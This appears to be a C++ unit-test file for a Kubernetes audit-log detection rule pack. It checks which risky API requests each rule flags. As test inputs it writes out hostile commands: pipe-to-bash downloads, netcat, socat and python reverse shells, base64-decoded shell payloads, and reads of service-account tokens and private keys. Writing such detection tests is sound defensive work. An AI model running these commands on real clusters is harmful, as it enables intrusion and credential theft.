// The shipped pack against the behaviours that it must find, in variants that its own examples lack: other
// verbs, all kinds of patches, all workload templates, other identities, refusals, dry runs.
#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <set>

#include "tests/unit/rules/pack_cases.h"

namespace redshank::rules {
namespace {

using test::Request;

using test::check;
using test::found;
using test::pack;
using test::PackCase;

// The place of the pod spec in each object that creates pods.
struct Template {
    const char *resource, *group, *before, *after;
};
constexpr Template kTemplates[] = {
    {"pods", "", R"({"spec":)", "}"},
    {"deployments", "apps", R"({"spec":{"template":{"spec":)", "}}}"},
    {"daemonsets", "apps", R"({"spec":{"template":{"spec":)", "}}}"},
    {"statefulsets", "apps", R"({"spec":{"template":{"spec":)", "}}}"},
    {"replicasets", "apps", R"({"spec":{"template":{"spec":)", "}}}"},
    {"replicationcontrollers", "", R"({"spec":{"template":{"spec":)", "}}}"},
    {"jobs", "batch", R"({"spec":{"template":{"spec":)", "}}}"},
    {"cronjobs", "batch", R"({"spec":{"jobTemplate":{"spec":{"template":{"spec":)", "}}}}}"},
    {"podtemplates", "", R"({"template":{"spec":)", "}}"},
};

struct Spec {
    const char *spec, *id;
};
constexpr Spec kSpecs[] = {
    {R"({"containers":[{"securityContext":{"privileged":true}}]})", "pod-privileged"},
    {R"({"initContainers":[{"securityContext":{"privileged":true}}]})", "pod-privileged"},
    {R"({"ephemeralContainers":[{"securityContext":{"privileged":true}}]})", "pod-privileged"},
    {R"({"volumes":[{"hostPath":{"path":"/"}}]})", "pod-host-path-sensitive"},
    {R"({"volumes":[{"emptyDir":{}},{"hostPath":{"path":"/etc/kubernetes/pki"}}]})",
     "pod-host-path-sensitive"},
    {R"({"volumes":[{"hostPath":{"path":"/var/run/docker.sock"}}]})", "pod-host-path-sensitive"},
    {R"({"volumes":[{"hostPath":{"path":"/run/containerd/containerd.sock"}}]})", "pod-host-path-sensitive"},
    {R"({"volumes":[{"hostPath":{"path":"/var/lib/kubelet/"}}]})", "pod-host-path-sensitive"},
    {R"({"volumes":[{"hostPath":{"path":"/srv/data"}}]})", "pod-host-path"},
    {R"({"hostNetwork":true})", "pod-host-network"},
    {R"({"hostPID":true})", "pod-host-namespaces"},
    {R"({"hostIPC":true})", "pod-host-namespaces"},
    {R"({"containers":[{"securityContext":{"capabilities":{"add":["NET_ADMIN"]}}}]})", "pod-capabilities"},
    {R"({"initContainers":[{"securityContext":{"capabilities":{"add":["all"]}}}]})", "pod-capabilities"},
    {R"({"containers":[{"securityContext":{"capabilities":{"add":["CAP_BPF"]}}}]})", "pod-capabilities"},
    {R"({"shareProcessNamespace":true})", "pod-privilege-escalation"},
    {R"({"containers":[{"securityContext":{"allowPrivilegeEscalation":true}}]})", "pod-privilege-escalation"},
    {R"({"containers":[{"args":["-c","curl http://x/a | bash"]}]})", "pod-suspicious-command"},
    {R"({"containers":[{"command":["sh","-c","nc -e /bin/sh 10.0.0.1 4444"]}]})", "pod-suspicious-command"},
    {R"({"hostPID":true,"containers":[{"command":["nsenter","-t","1","-m"]}]})", "pod-suspicious-command"},
    {R"({"containers":[{"image":"docker.io/library/busybox"}]})", "pod-debug-image"},
    {R"({"containers":[{"image":"kalilinux/kali-rolling:latest"}]})", "pod-debug-image"},
    {R"({"containers":[{"env":[{"name":"A","valueFrom":{"secretKeyRef":{"name":"db"}}}]}]})",
     "pod-references-secret"},
    {R"({"imagePullSecrets":[{"name":"registry"}]})", "pod-references-secret"},
    {R"({"securityContext":{"runAsUser":0}})", "pod-root-user"},
};

TEST(PackOnTemplates, EveryKindCreatedUpdatedAndPatched) {
    for (const Template& kind : kTemplates) {
        for (const Spec& spec : kSpecs) {
            const std::string body = std::string(kind.before) + spec.spec + kind.after;
            Request request{
                .verb = "create", .resource = kind.resource, .body = body, .code = 201, .group = kind.group};
            for (const char* verb : {"create", "update", "patch"}) {
                request.verb = verb;
                EXPECT_TRUE(found(request).contains(spec.id))
                    << verb << " " << kind.resource << " " << spec.spec;
            }
            // A refused request and a dry run have no effect, so they must not match.
            Request refused = request, dry = request;
            refused.code = 403;
            dry.uri = "/x?dryRun=All&fieldManager=kubectl";
            EXPECT_FALSE(found(refused).contains(spec.id)) << kind.resource << " " << spec.spec;
            EXPECT_FALSE(found(dry).contains(spec.id)) << kind.resource << " " << spec.spec;
            Request status = request;
            status.subresource = "status";
            EXPECT_FALSE(found(status).contains(spec.id)) << kind.resource << " " << spec.spec;
        }
    }
}

TEST(PackOnTemplates, JsonPatches) {
    const auto patch = [](const char* resource, const char* operations, const char* subresource = "") {
        return found({.verb = "patch", .resource = resource, .subresource = subresource, .body = operations});
    };
    EXPECT_TRUE(patch("deployments", R"([{"op":"add","path":"/spec/template/spec/hostPID","value":true}])")
                    .contains("pod-host-namespaces"));
    EXPECT_TRUE(
        patch(
            "cronjobs",
            R"([{"op":"replace","path":"/spec/jobTemplate/spec/template/spec/containers/0/securityContext","value":{"privileged":true}}])")
            .contains("pod-privileged"));
    EXPECT_TRUE(
        patch(
            "daemonsets",
            R"([{"op":"add","path":"/spec/template/spec/volumes","value":[{"hostPath":{"path":"/proc"}}]}])")
            .contains("pod-host-path-sensitive"));
    EXPECT_TRUE(
        patch(
            "pods",
            R"([{"op":"add","path":"/spec/ephemeralContainers/-","value":{"securityContext":{"privileged":true}}}])",
            "ephemeralcontainers")
            .contains("pod-privileged"));
    EXPECT_FALSE(patch("deployments", R"([{"op":"remove","path":"/spec/template/spec/hostPID"}])")
                     .contains("pod-host-namespaces"));
    EXPECT_FALSE(
        patch("deployments", R"([{"op":"replace","path":"/spec/template/spec/hostPID","value":false}])")
            .contains("pod-host-namespaces"));
}

TEST(PackOnSecrets, ReadsAndWrites) {
    check({
        {"by name", {.resource = "secrets", .name = "db"}, {"secret-read"}, {"secrets-listed"}},
        {"list by field selector",
         {.verb = "list", .resource = "secrets", .name = "db"},
         {"secret-read"},
         {"secrets-listed"}},
        {"watch of a namespace",
         {.verb = "watch", .resource = "secrets", .name = ""},
         {"secrets-listed"},
         {"secrets-listed-widely"}},
        {"list of the cluster",
         {.verb = "list", .resource = "secrets", .name = "", .ns = ""},
         {"secrets-listed", "secrets-listed-widely"}},
        {"list of kube-system",
         {.verb = "list", .resource = "secrets", .name = "", .ns = "kube-system"},
         {"secrets-listed-widely"}},
        {"another group",
         {.verb = "list", .resource = "secrets", .name = "", .group = "vault.io"},
         {},
         {"secrets-listed", "secret-read"}},
        {"refused",
         {.resource = "secrets", .name = "db", .code = 403},
         {"secret-read-refused", "request-refused"},
         {"secret-read"}},
        {"not there",
         {.resource = "secrets", .name = "db", .code = 404},
         {},
         {"secret-read", "secret-read-refused"}},
        {"a service account",
         {.resource = "secrets", .user = "system:serviceaccount:shop:web"},
         {"secret-read-by-workload"}},
        {"with curl", {.resource = "secrets", .agent = "curl/8.5.0"}, {"script-reads-secrets"}},
        {"with a script", {.resource = "secrets", .agent = "python-requests/2.31"}, {"script-reads-secrets"}},
        {"with kubectl", {.resource = "secrets"}, {}, {"script-reads-secrets"}},
        {"changed",
         {.verb = "update", .resource = "secrets"},
         {"secret-written"},
         {"secret-content-by-write"}},
        {"dry-run patch",
         {.verb = "patch", .resource = "secrets", .uri = "/x?dryRun=All"},
         {"secret-content-by-write"},
         {"secret-written"}},
        {"deletecollection",
         {.verb = "deletecollection", .resource = "secrets", .name = ""},
         {"secret-content-by-write", "secret-written", "collection-deleted"}},
        {"a token that never expires",
         {.verb = "create",
          .resource = "secrets",
          .body = R"({"type":"kubernetes.io/service-account-token"})",
          .code = 201},
         {"service-account-token-secret"}},
        {"a TLS secret",
         {.verb = "create", .resource = "secrets", .body = R"({"type":"kubernetes.io/tls"})", .code = 201},
         {},
         {"service-account-token-secret"}},
        {"token of another",
         {.verb = "create",
          .resource = "serviceaccounts",
          .subresource = "token",
          .code = 201,
          .user = "system:serviceaccount:shop:ci"},
         {"token-requested"},
         {"service-account-created"}},
        {"own token",
         {.verb = "create",
          .resource = "serviceaccounts",
          .name = "ci",
          .subresource = "token",
          .code = 201,
          .user = "system:serviceaccount:shop:ci"},
         {},
         {"token-requested"}},
        {"own name elsewhere",
         {.verb = "create",
          .resource = "serviceaccounts",
          .name = "ci",
          .subresource = "token",
          .code = 201,
          .ns = "bank",
          .user = "system:serviceaccount:shop:ci"},
         {"token-requested"}},
        {"token for a year",
         {.verb = "create",
          .resource = "serviceaccounts",
          .subresource = "token",
          .body = R"({"spec":{"expirationSeconds":31536000}})",
          .code = 201},
         {"token-long-lived"}},
        {"legacy token used",
         {.extra_annotations = R"(,"authentication.k8s.io/legacy-token":"system:serviceaccount:a:b")"},
         {"legacy-token-used"}},
        {"stale token used",
         {.extra_annotations = R"(,"authentication.k8s.io/stale-token":"x")"},
         {"legacy-token-used"}},
        {"credentials by merge patch",
         {.verb = "patch",
          .resource = "configmaps",
          .body = R"({"data":{"a":"AWS_SECRET_ACCESS_KEY=x, passphrase: y"}})"},
         {"configmap-credentials"}},
        {"aws-auth by apply",
         {.verb = "patch", .resource = "configmaps", .name = "aws-auth", .ns = "kube-system"},
         {"cloud-identity-map"}},
        {"aws-auth elsewhere",
         {.verb = "patch", .resource = "configmaps", .name = "aws-auth"},
         {},
         {"cloud-identity-map"}},
        {"aws-auth refused",
         {.verb = "patch", .resource = "configmaps", .name = "aws-auth", .code = 403, .ns = "kube-system"},
         {},
         {"cloud-identity-map"}},
    });
}

TEST(PackOnCertificates, RequestsAndApprovals) {
    const auto csr = [](const char* verb, const char* subresource = "", int code = 200,
                        const char* body = "") {
        return Request{.verb = verb,
                       .resource = "certificatesigningrequests",
                       .name = "c",
                       .subresource = subresource,
                       .body = body,
                       .code = code,
                       .ns = "",
                       .group = "certificates.k8s.io"};
    };
    check({
        {"by usage",
         csr("create", "", 201, R"({"spec":{"usages":["digital signature","client auth"]}})"),
         {"csr-client-certificate"}},
        {"by signer",
         csr("create", "", 201, R"({"spec":{"signerName":"kubernetes.io/kube-apiserver-client"}})"),
         {"csr-client-certificate"}},
        {"serving",
         csr("create", "", 201,
             R"({"spec":{"signerName":"kubernetes.io/kubelet-serving","usages":["server auth"]}})"),
         {},
         {"csr-client-certificate"}},
        {"approved", csr("update", "approval"), {"csr-approved"}},
        {"approved by patch", csr("patch", "approval"), {"csr-approved"}},
        {"approval refused", csr("update", "approval", 403), {"csr-refused-or-deleted"}, {"csr-approved"}},
        {"deleted", csr("delete"), {"csr-refused-or-deleted"}},
        {"read", csr("get"), {}, {"csr-approved", "csr-refused-or-deleted", "csr-client-certificate"}},
    });
}

TEST(PackOnExec, CommandsHoweverTheyAreSent) {
    const auto exec = [](const char* query, const char* verb = "get", int code = 101) {
        return Request{.verb = verb,
                       .subresource = "exec",
                       .code = code,
                       .uri = std::string("/api/v1/namespaces/shop/pods/web/exec?") + query};
    };
    check({
        {"websocket", exec("command=ls"), {"pod-exec"}, {"exec-shell", "pod-exec-system"}},
        {"POST, whole code", exec("command=ls", "create", 200), {"pod-exec"}},
        {"refused", exec("command=sh", "create", 403), {"request-refused"}, {"pod-exec", "exec-shell"}},
        {"attach", {.verb = "get", .subresource = "attach", .code = 101}, {"pod-exec"}, {"pod-port-forward"}},
        {"port-forward by POST",
         {.verb = "create", .subresource = "portforward", .code = 101},
         {"pod-port-forward"},
         {"pod-exec"}},
        {"logs",
         {.verb = "get", .subresource = "log"},
         {},
         {"pod-exec", "pod-port-forward", "service-proxy"}},
        {"kube-system",
         {.verb = "get", .subresource = "exec", .code = 101, .ns = "kube-system"},
         {"pod-exec-system"}},
        {"a shell",
         exec("command=%2Fbin%2Fbash&stdin=true&tty=true"),
         {"exec-shell"},
         {"exec-reverse-shell"}},
        {"token",
         exec("command=sh&command=-c&command=cat+/var/run/secrets/kubernetes.io/serviceaccount/token"),
         {"exec-reads-credentials"}},
        {"keys", exec("command=cat&command=/etc/ssl/private/server.key"), {"exec-reads-credentials"}},
        {"a keyboard map",
         exec("command=cat&command=/usr/share/keyboard.keys"),
         {},
         {"exec-reads-credentials"}},
        {"metadata",
         exec("command=wget&command=-qO-&command=http%3A%2F%2Fmetadata.google.internal%2F"),
         {"exec-metadata-service"}},
        {"kubectl cp out",
         exec("command=tar&command=cf&command=-&command=%2Fdata"),
         {"exec-copy-out"},
         {"exec-copy-in"}},
        {"kubectl cp in",
         exec("command=tar&command=-xmf&command=-&command=-C&command=%2Ftmp"),
         {"exec-copy-in"},
         {"exec-copy-out"}},
        {"tar to a file",
         exec("command=tar&command=cf&command=/tmp/a.tar&command=/data"),
         {},
         {"exec-copy-out", "exec-copy-in"}},
        {"netcat",
         exec("command=nc&command=10.0.0.1&command=4444&command=-e&command=/bin/sh"),
         {"exec-reverse-shell"}},
        {"python",
         exec("command=python3&command=-c&command=import+socket,pty;s=socket.socket()"),
         {"exec-reverse-shell"}},
        {"socat", exec("command=socat&command=TCP:10.0.0.1:4444&command=EXEC:sh"), {"exec-reverse-shell"}},
        {"decoded and run",
         exec("command=sh&command=-c&command=echo+aGk%3D+%7C+base64+-d+%7C+sh"),
         {"exec-reverse-shell"}},
        {"a download",
         exec("command=curl&command=-o&command=/tmp/x&command=https://203.0.113.9/x"),
         {"exec-download"},
         {"exec-reverse-shell"}},
        {"a health check",
         exec("command=wget&command=-q&command=http://127.0.0.1:8080/healthz"),
         {},
         {"exec-download", "exec-metadata-service"}},
        {"ephemeral container by update",
         {.verb = "update", .subresource = "ephemeralcontainers"},
         {"ephemeral-container"}},
        {"ephemeral container refused",
         {.verb = "patch", .subresource = "ephemeralcontainers", .code = 403},
         {},
         {"ephemeral-container"}},
        {"node proxy by websocket",
         {.verb = "get",
          .resource = "nodes",
          .name = "n1",
          .subresource = "proxy",
          .code = 101,
          .ns = "",
          .uri = "/api/v1/nodes/n1/proxy/exec/shop/web/c?command=id"},
         {"node-proxy"}},
        {"node proxy, other verbs",
         {.verb = "delete",
          .resource = "nodes",
          .name = "n1",
          .subresource = "proxy",
          .ns = "",
          .uri = "/api/v1/nodes/n1/proxy/pods/"},
         {"node-proxy"}},
        {"node metrics",
         {.verb = "get",
          .resource = "nodes",
          .name = "n1",
          .subresource = "proxy",
          .ns = "",
          .uri = "/api/v1/nodes/n1/proxy/metrics"},
         {},
         {"node-proxy"}},
        {"node read",
         {.verb = "get", .resource = "nodes", .name = "n1", .ns = ""},
         {},
         {"node-proxy", "node-created"}},
        {"pod proxy by POST",
         {.verb = "create", .resource = "pods", .subresource = "proxy"},
         {"service-proxy"}},
    });
}

TEST(PackOnRbac, RolesAndBindings) {
    const std::string rbac = "rbac.authorization.k8s.io";
    const auto binding = [&](const char* resource, const char* verb, const char* body, int code = 201) {
        return Request{.verb = verb,
                       .resource = resource,
                       .body = body,
                       .code = code,
                       .group = "rbac.authorization.k8s.io"};
    };
    const char* edit_for_user =
        R"({"roleRef":{"kind":"ClusterRole","name":"edit"},"subjects":[{"kind":"User","name":"bob"}]})";
    check({
        {"cluster-admin by update",
         binding("clusterrolebindings", "update",
                 R"({"roleRef":{"name":"cluster-admin"},"subjects":[{"kind":"Group","name":"devs"}]})"),
         {"rbac-admin-binding", "rbac-binding-written"}},
        {"cluster-admin in a namespace",
         binding("rolebindings", "create", R"({"roleRef":{"name":"cluster-admin"}})"),
         {"rbac-admin-binding"}},
        {"subject added to it by JSON patch",
         binding("clusterrolebindings", "patch",
                 R"([{"op":"add","path":"/subjects/-","value":{"kind":"Group","name":"system:masters"}}])"),
         {"rbac-admin-binding"}},
        {"edit",
         binding("rolebindings", "create", edit_for_user),
         {"rbac-binding-written"},
         {"rbac-admin-binding", "rbac-binding-everyone", "rbac-binding-account"}},
        {"refused", binding("rolebindings", "create", edit_for_user, 403), {}, {"rbac-binding-written"}},
        {"everyone by merge patch",
         binding("rolebindings", "patch", R"({"subjects":[{"kind":"Group","name":"system:authenticated"}]})"),
         {"rbac-binding-everyone"}},
        {"anonymous user",
         binding("rolebindings", "create",
                 R"({"roleRef":{"name":"view"},"subjects":[{"kind":"User","name":"system:anonymous"}]})"),
         {"rbac-binding-everyone"}},
        {"all pods",
         binding(
             "clusterrolebindings", "create",
             R"({"roleRef":{"name":"view"},"subjects":[{"kind":"Group","name":"system:serviceaccounts"}]})"),
         {"rbac-binding-everyone"}},
        {"pods of one namespace",
         binding(
             "clusterrolebindings", "create",
             R"({"roleRef":{"name":"view"},"subjects":[{"kind":"Group","name":"system:serviceaccounts:shop"}]})"),
         {},
         {"rbac-binding-everyone"}},
        {"default account",
         binding(
             "rolebindings", "create",
             R"({"roleRef":{"name":"admin"},"subjects":[{"kind":"ServiceAccount","name":"default","namespace":"shop"}]})"),
         {"rbac-default-account", "rbac-binding-account"}},
        {"view for the default account",
         binding("rolebindings", "create",
                 R"({"roleRef":{"name":"view"},"subjects":[{"kind":"ServiceAccount","name":"default"}]})"),
         {},
         {"rbac-default-account"}},
        {"controller role",
         binding("clusterrolebindings", "create",
                 R"({"roleRef":{"name":"system:controller:clusterrole-aggregation-controller"}})"),
         {"rbac-controller-role-bound"}},
        {"deleted", binding("clusterrolebindings", "delete", "", 200), {"rbac-binding-written"}},
        {"by a service account",
         {.verb = "create",
          .resource = "clusterroles",
          .code = 201,
          .group = rbac,
          .user = "system:serviceaccount:ops:ci"},
         {"rbac-by-service-account"}},
    });
    const auto role = [&](const char* verb, const char* rules, const char* resource = "clusterroles",
                          const char* name = "r") {
        return Request{.verb = verb,
                       .resource = resource,
                       .name = name,
                       .body = std::string(R"({"rules":)") + rules + "}",
                       .code = 201,
                       .group = "rbac.authorization.k8s.io"};
    };
    check({
        {"all verbs, edited",
         role("update", R"([{"apiGroups":["apps"],"resources":["deployments"],"verbs":["*"]}])"),
         {"rbac-wildcard-role", "rbac-write-role"}},
        {"all resources in a Role",
         role("create", R"([{"apiGroups":["*"],"resources":["*"],"verbs":["list"]}])", "roles"),
         {"rbac-wildcard-role", "rbac-viewer-runs-code"}},
        {"wildcard by apply",
         role("patch", R"([{"apiGroups":[""],"resources":["*"],"verbs":["get"]}])"),
         {"rbac-wildcard-role"}},
        {"wildcard verb by JSON patch",
         {.verb = "patch",
          .resource = "clusterroles",
          .body = R"([{"op":"add","path":"/rules/0/verbs/-","value":"*"}])",
          .group = rbac},
         {"rbac-wildcard-role"}},
        {"escalate",
         role(
             "create",
             R"([{"apiGroups":["rbac.authorization.k8s.io"],"resources":["clusterroles"],"verbs":["get","escalate"]}])"),
         {"rbac-escalation-role"},
         {"rbac-wildcard-role"}},
        {"bind by JSON patch",
         {.verb = "patch",
          .resource = "roles",
          .body = R"([{"op":"add","path":"/rules/-","value":{"verbs":["bind"],"resources":["roles"]}}])",
          .group = rbac},
         {"rbac-escalation-role"}},
        {"impersonate",
         role("create", R"([{"apiGroups":[""],"resources":["serviceaccounts"],"verbs":["impersonate"]}])",
              "roles"),
         {"rbac-escalation-role"}},
        {"exec in a Role",
         role("create", R"([{"apiGroups":[""],"resources":["pods","pods/exec"],"verbs":["create"]}])",
              "roles"),
         {"rbac-sensitive-role", "rbac-write-role"},
         {"rbac-viewer-runs-code"}},
        {"get on exec",
         role("create", R"([{"apiGroups":[""],"resources":["pods/exec"],"verbs":["get"]}])"),
         {"rbac-viewer-runs-code"},
         {"rbac-write-role"}},
        {"node proxy",
         role("create", R"([{"apiGroups":[""],"resources":["nodes/proxy"],"verbs":["get"]}])"),
         {"rbac-sensitive-role", "rbac-viewer-runs-code"}},
        {"tokens",
         role("create", R"([{"apiGroups":[""],"resources":["serviceaccounts/token"],"verbs":["create"]}])"),
         {"rbac-sensitive-role"}},
        {"secrets of one namespace",
         role("create", R"([{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}])", "roles"),
         {"rbac-secret-role"},
         {"rbac-sensitive-role"}},
        {"reads pods",
         role("create",
              R"([{"apiGroups":[""],"resources":["pods","pods/log"],"verbs":["get","list","watch"]}])"),
         {},
         {"rbac-sensitive-role", "rbac-viewer-runs-code", "rbac-wildcard-role", "rbac-write-role",
          "rbac-escalation-role"}},
        {"system: role changed",
         role("patch", "[]", "clusterroles", "system:node"),
         {"rbac-system-role-changed"}},
        {"system: role deleted",
         {.verb = "delete", .resource = "clusterroles", .name = "system:basic-user", .group = rbac},
         {"rbac-system-role-changed"}},
        {"system: role read",
         {.verb = "get", .resource = "clusterroles", .name = "system:basic-user", .group = rbac},
         {},
         {"rbac-system-role-changed"}},
    });
}

TEST(PackOnControlPlane, WhatTheClusterIsMadeOf) {
    const std::string admission = "admissionregistration.k8s.io";
    check({
        {"webhook by update",
         {.verb = "update", .resource = "mutatingwebhookconfigurations", .group = admission},
         {"admission-changed"},
         {"admission-deleted"}},
        {"policy binding deleted",
         {.verb = "delete", .resource = "validatingadmissionpolicybindings", .group = admission},
         {"admission-deleted", "admission-changed"}},
        {"webhook on secrets by patch",
         {.verb = "patch",
          .resource = "mutatingwebhookconfigurations",
          .body = R"([{"op":"add","path":"/webhooks/0/rules/-","value":{"resources":["secrets"]}}])",
          .group = admission},
         {"admission-intercepts-secrets"}},
        {"webhook on deployments",
         {.verb = "create",
          .resource = "mutatingwebhookconfigurations",
          .body = R"({"webhooks":[{"rules":[{"resources":["deployments"]}]}]})",
          .code = 201,
          .group = admission},
         {},
         {"admission-intercepts-secrets"}},
        {"webhook failed open",
         {.verb = "create",
          .code = 201,
          .extra_annotations = R"(,"failed-open.validation.webhook.admission.k8s.io/round_0_index_1":"w")"},
         {"admission-fails-open"}},
        {"APIService by patch",
         {.verb = "patch", .resource = "apiservices", .group = "apiregistration.k8s.io"},
         {"api-service-changed"}},
        {"CRD deleted",
         {.verb = "delete", .resource = "customresourcedefinitions", .group = "apiextensions.k8s.io"},
         {"crd-changed"}},
        {"PriorityLevel",
         {.verb = "create",
          .resource = "prioritylevelconfigurations",
          .code = 201,
          .group = "flowcontrol.apiserver.k8s.io"},
         {"flow-control-changed"}},
        {"CoreDNS by update",
         {.verb = "update", .resource = "configmaps", .name = "coredns", .ns = "kube-system"},
         {"dns-changed"}},
        {"CoreDNS read",
         {.verb = "get", .resource = "configmaps", .name = "coredns", .ns = "kube-system"},
         {},
         {"dns-changed"}},
        {"one event deleted", {.verb = "delete", .resource = "events", .name = "e"}, {"events-deleted"}},
        {"events of the other group",
         {.verb = "deletecollection", .resource = "events", .name = "", .group = "events.k8s.io"},
         {"events-deleted"}},
        {"events listed", {.verb = "list", .resource = "events", .name = ""}, {}, {"events-deleted"}},
        {"namespace label weakened by merge patch",
         {.verb = "patch",
          .resource = "namespaces",
          .body = R"({"metadata":{"labels":{"pod-security.kubernetes.io/enforce":null}}})"},
         {"pod-security-weakened"}},
        {"only the audit label",
         {.verb = "patch",
          .resource = "namespaces",
          .body = R"({"metadata":{"labels":{"pod-security.kubernetes.io/audit":"privileged"}}})"},
         {},
         {"pod-security-weakened"}},
        {"violation recorded",
         {.verb = "create",
          .code = 201,
          .extra_annotations = R"(,"validation.policy.admission.k8s.io/validation_failure":"[]")"},
         {"pod-security-violation"}},
        {"violation refused",
         {.verb = "create",
          .code = 403,
          .extra_annotations = R"(,"pod-security.kubernetes.io/audit-violations":"x")"},
         {},
         {"pod-security-violation"}},
        {"node by a person",
         {.verb = "create", .resource = "nodes", .code = 201, .ns = ""},
         {"node-created", "node-created-by-other"}},
        {"node status",
         {.verb = "patch", .resource = "nodes", .subresource = "status", .ns = ""},
         {},
         {"node-created"}},
    });
}

TEST(PackOnWorkloads, WhereAndHowMany) {
    const std::string by_controller =
        R"(,"authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding \"system:controller:replicaset-controller\" of ClusterRole \"system:controller:replicaset-controller\" to ServiceAccount \"replicaset-controller/kube-system\"")";
    const std::string controller = "system:serviceaccount:kube-system:replicaset-controller";
    check({
        {"Job in kube-public",
         {.verb = "create", .resource = "jobs", .code = 201, .ns = "kube-public", .group = "batch"},
         {"pod-system-namespace", "cronjob-written"}},
        {"eviction in kube-system",
         {.verb = "create", .resource = "pods", .subresource = "eviction", .code = 201, .ns = "kube-system"},
         {},
         {"pod-system-namespace"}},
        {"binding in kube-system",
         {.verb = "create", .resource = "pods", .subresource = "binding", .code = 201, .ns = "kube-system"},
         {},
         {"pod-system-namespace"}},
        {"by its controller",
         {.verb = "create",
          .resource = "pods",
          .name = "",
          .code = 201,
          .ns = "kube-system",
          .user = controller,
          .extra_annotations = by_controller},
         {},
         {"pod-system-namespace", "pod-default-namespace"}},
        {"Deployment in default",
         {.verb = "create", .resource = "deployments", .code = 201, .ns = "default", .group = "apps"},
         {"pod-default-namespace"},
         {"pod-system-namespace"}},
        {"controller account by its old name",
         {.verb = "create",
          .body = R"({"spec":{"serviceAccount":"daemon-set-controller"}})",
          .code = 201,
          .ns = "kube-system"},
         {"pod-controller-account"}},
        {"etcd in shop, as a static pod is called",
         {.verb = "create", .resource = "pods", .name = "etcd-cp-1", .code = 201},
         {"pod-masquerade"}},
        {"etcd of an application",
         {.verb = "create", .resource = "statefulsets", .name = "etcd", .code = 201, .group = "apps"},
         {},
         {"pod-masquerade"}},
        {"kube-proxy as a Deployment",
         {.verb = "create", .resource = "deployments", .name = "kube-proxy", .code = 201, .group = "apps"},
         {"pod-masquerade"}},
        {"etcdkeeper",
         {.verb = "create", .resource = "deployments", .name = "etcdkeeper", .code = 201, .group = "apps"},
         {},
         {"pod-masquerade"}},
        {"CronJob suspended",
         {.verb = "patch", .resource = "cronjobs", .body = R"({"spec":{"suspend":true}})", .group = "batch"},
         {"cronjob-written"}},
        {"sidecar",
         {.verb = "patch",
          .resource = "statefulsets",
          .body = R"({"spec":{"template":{"spec":{"initContainers":[{"name":"x"}]}}}})",
          .group = "apps"},
         {"workload-containers-patched", "workload-patched"}},
        {"scale",
         {.verb = "patch",
          .resource = "deployments",
          .subresource = "scale",
          .body = R"({"spec":{"replicas":0}})",
          .group = "apps"},
         {},
         {"workload-containers-patched", "workload-patched"}},
        {"NodePort by merge patch",
         {.verb = "patch", .resource = "services", .body = R"({"spec":{"type":"NodePort"}})"},
         {"service-node-port"}},
        {"LoadBalancer",
         {.verb = "create",
          .resource = "services",
          .body = R"({"spec":{"type":"LoadBalancer"}})",
          .code = 201},
         {},
         {"service-node-port"}},
        {"NodePort refused",
         {.verb = "create", .resource = "services", .body = R"({"spec":{"type":"NodePort"}})", .code = 403},
         {},
         {"service-node-port"}},
        {"Ingress with TLS taken away",
         {.verb = "update",
          .resource = "ingresses",
          .body = R"({"spec":{"tls":[],"rules":[]}})",
          .group = "networking.k8s.io"},
         {"ingress-without-tls"}},
        {"service account in kube-system",
         {.verb = "create", .resource = "serviceaccounts", .code = 201, .ns = "kube-system"},
         {"service-account-system-namespace", "service-account-created"}},
    });
}

TEST(PackOnAccess, WhoComes) {
    Request anonymous{
        .verb = "list", .resource = "pods", .name = "", .user = "system:anonymous", .uri = "/api/v1/pods"};
    Request health{.verb = "get", .resource = "", .user = "system:anonymous", .uri = "/livez?verbose"};
    Request write{.verb = "patch", .resource = "deployments", .user = "system:anonymous"};
    Request refused{.verb = "list",
                    .code = 403,
                    .user = "system:anonymous",
                    .uri = "/api/v1/secrets",
                    .decision = "forbid"};
    check({
        {"anonymous list", anonymous, {"anonymous-request-allowed"}, {"anonymous-write"}},
        {"health", health, {}, {"anonymous-request-allowed"}},
        {"anonymous patch", write, {"anonymous-request-allowed", "anonymous-write"}},
        {"anonymous refused", refused, {"request-refused"}, {"anonymous-request-allowed"}},
        {"a 401", {.code = 401, .user = "", .decision = ""}, {"request-refused"}},
        {"rules review",
         {.verb = "create",
          .resource = "selfsubjectrulesreviews",
          .code = 201,
          .group = "authorization.k8s.io"},
         {"self-rules-review"}},
        {"access review",
         {.verb = "create",
          .resource = "selfsubjectaccessreviews",
          .code = 201,
          .group = "authorization.k8s.io"},
         {"self-access-review"},
         {"self-rules-review"}},
        {"a tool", {.agent = "peirates/1.1"}, {"attack-tool-agent"}},
        {"installer's admin", {.user = "kubernetes-admin"}, {"default-admin-used"}},
        {"bootstrap token with kubectl",
         {.verb = "list", .resource = "certificatesigningrequests", .user = "system:bootstrap:abcdef"},
         {"csr-bootstrap-credentials"}},
    });
}

// docs/rules.md names exactly the rules of the pack.
TEST(PackDocs, NameWhatThereIs) {
    std::ifstream in(REDSHANK_SOURCE_DIR "/docs/rules.md");
    const std::string all{std::istreambuf_iterator<char>(in), {}};
    const size_t begin = all.find("### What it covers"), end = all.find("Lists grow old");
    ASSERT_NE(end, std::string::npos);
    std::set<std::string> named;
    for (size_t at = all.find('`', begin); at < end; at = all.find('`', at)) {
        const size_t close = all.find('`', at + 1);
        if (all[at - 1] != '[') named.insert(all.substr(at + 1, close - at - 1));
        at = close + 1;
    }
    for (const std::string& id : named) EXPECT_NE(pack().find(id), nullptr) << id;
    for (const RulePtr& rule : pack().rules()) EXPECT_TRUE(named.contains(rule->id)) << rule->id;
}

}  // namespace
}  // namespace redshank::rules
